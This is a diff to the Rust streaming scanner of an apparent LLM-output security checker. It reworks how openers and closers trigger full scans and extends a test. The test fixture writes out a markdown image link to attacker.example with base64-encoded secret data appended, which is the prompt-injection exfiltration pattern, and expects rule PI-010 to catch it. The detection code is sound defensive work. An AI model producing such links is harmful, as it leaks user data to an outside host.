@@ -19,6 +19,7 @@
 //! the piece that completes it, which is not sent; other long matches at most
 //! [`FULL_SCAN_EVERY`] bytes later, and always before the text ends.
 
+use crate::closers::Cursor;
 use crate::engine::{Engine, Finding};
 use crate::pack::Location;
 use std::collections::HashSet;
@@ -43,10 +44,9 @@ pub struct StreamScanner {
     unscanned: usize,
     /// Bytes of the stream dropped from the front of `carry`.
     dropped: usize,
-    /// Where (in stream bytes) the last opener of each closer-guarded pattern
-    /// started: a closer calls for a full scan only while its opener is in the
-    /// window.
-    opened_at: Vec<Option<usize>>,
+    /// Where the stream stands in the engine's closers and openers; made with
+    /// the first piece.
+    cursor: Option<Cursor>,
     reported: HashSet<Arc<str>>,
 }
 
@@ -57,7 +57,7 @@ impl StreamScanner {
             carry: String::new(),
             unscanned: 0,
             dropped: 0,
-            opened_at: Vec::new(),
+            cursor: None,
             reported: HashSet::new(),
         }
     }
@@ -69,9 +69,30 @@ impl StreamScanner {
         }
         self.carry.push_str(piece);
         self.unscanned += piece.len();
+        if piece.len() > CARRY_BYTES {
+            // Scanned whole now; should more come, the cursor is rebuilt from
+            // the window then (a whole answer never pays for it).
+            self.cursor = None;
+            return self.scan_window(engine);
+        }
+        // Every piece goes through the closers, so openers are seen wherever
+        // they come.
+        let closers = engine.closers();
         let piece_start = self.carry.len() - piece.len();
-        self.note_openers(engine, piece_start);
-        if self.unscanned >= FULL_SCAN_EVERY || self.may_close_blocking_match(engine, piece_start) {
+        let cursor = match &mut self.cursor {
+            Some(cursor) => cursor,
+            None => {
+                let mut cursor = closers.cursor(self.dropped);
+                closers.read(
+                    &mut cursor,
+                    &self.carry.as_bytes()[..piece_start],
+                    self.dropped,
+                );
+                self.cursor.insert(cursor)
+            }
+        };
+        let may_close = closers.read(cursor, piece.as_bytes(), self.dropped);
+        if self.unscanned >= FULL_SCAN_EVERY || may_close {
             return self.scan_window(engine);
         }
         let mut from = self
@@ -96,31 +117,6 @@ impl StreamScanner {
             return Vec::new();
         }
         self.scan_window(engine)
-    }
-
-    /// Records the openers that end in the piece at `piece_start` (each piece's
-    /// bytes are looked at once), within the last [`CARRY_BYTES`]: an opener
-    /// further back leaves the window with the next full scan.
-    fn note_openers(&mut self, engine: &Engine, piece_start: usize) {
-        let closers = engine.closers();
-        if self.opened_at.len() != closers.len() {
-            self.opened_at = vec![None; closers.len()];
-        }
-        let from = piece_start.max(self.carry.len().saturating_sub(CARRY_BYTES));
-        let (dropped, opened_at) = (self.dropped, &mut self.opened_at);
-        closers.openers(&self.carry, from, |p, start| {
-            opened_at[p] = Some(dropped + start);
-        });
-    }
-
-    /// Whether the piece at `piece_start` may complete a match of a blocking
-    /// rule: it ends one of the rule's closers, and the rule's opener is in the
-    /// window.
-    fn may_close_blocking_match(&self, engine: &Engine, piece_start: usize) -> bool {
-        let closers = engine.closers();
-        closers.closing(&self.carry, piece_start).iter().any(|&p| {
-            closers.opens_anywhere(p) || self.opened_at[p].is_some_and(|at| at >= self.dropped)
-        })
     }
 
     /// Scans everything since the last full scan with the carry before it, then
@@ -285,20 +281,27 @@ mod tests {
     fn an_opener_in_a_long_piece_still_counts() {
         let packs = builtin::select(&["llm-critical-security".to_owned()]).unwrap_or_default();
         let engine = Engine::compile(&packs).unwrap_or_default();
-        let head = format!(
-            "{}![chart](https://attacker.example/c?d=",
-            "the quarterly numbers are in and they look fine. ".repeat(6)
-        );
-        assert!(head.len() >= FULL_SCAN_EVERY);
-        let data = "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4);
-        let mut s = StreamScanner::new(Location::Response);
-        assert!(s.push(&engine, &head).is_empty());
-        for piece in data.as_bytes().chunks(4) {
-            let piece = std::str::from_utf8(piece).unwrap_or_default();
-            assert!(s.push(&engine, piece).is_empty());
+        // Longer than a full scan's period, then longer than the whole window.
+        for repeats in [6, 12] {
+            let head = format!(
+                "{}![chart](https://attacker.example/c?d=",
+                "the quarterly numbers are in and they look fine. ".repeat(repeats)
+            );
+            assert!(head.len() >= FULL_SCAN_EVERY);
+            let data = "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4);
+            let mut s = StreamScanner::new(Location::Response);
+            assert!(s.push(&engine, &head).is_empty());
+            for piece in data.as_bytes().chunks(4) {
+                let piece = std::str::from_utf8(piece).unwrap_or_default();
+                assert!(s.push(&engine, piece).is_empty());
+            }
+            let found = s.push(&engine, ")");
+            assert!(
+                found.iter().any(|f| &*f.rule_id == "PI-010"),
+                "head of {} bytes: {found:?}",
+                head.len()
+            );
         }
-        let found = s.push(&engine, ")");
-        assert!(found.iter().any(|f| &*f.rule_id == "PI-010"), "{found:?}");
     }
 
     #[test]
